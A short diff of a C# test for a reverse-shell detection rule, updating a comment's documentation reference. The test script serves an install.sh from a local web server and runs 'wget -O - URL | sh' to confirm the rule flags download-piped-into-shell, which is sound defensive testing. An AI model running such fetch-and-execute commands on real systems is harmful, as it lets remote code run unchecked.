@@ -143,7 +143,7 @@ public sealed class ReverseShellRelayTests(ITestOutputHelper output)
     public void DownloadPipedIntoAShellIsTakenForAReverseShell()
     {
         // `wget -O- URL | sh` from a remote host reads commands from the network: it matches the
-        // rule, by design (README: allowedProcesses exempts a known case).
+        // rule, by design (docs/controls.md, Reverse shells: allowedProcesses exempts a known case).
         const string script = AddRemote +
             "mkdir -p /tmp/www && echo 'echo SHELL-ALIVE-$((6*7))' > /tmp/www/install.sh && httpd -p 10.99.0.1:8080 -h /tmp/www && " +
             "wget -q -O - http://10.99.0.1:8080/install.sh | sh; echo \"rc=$?\"";
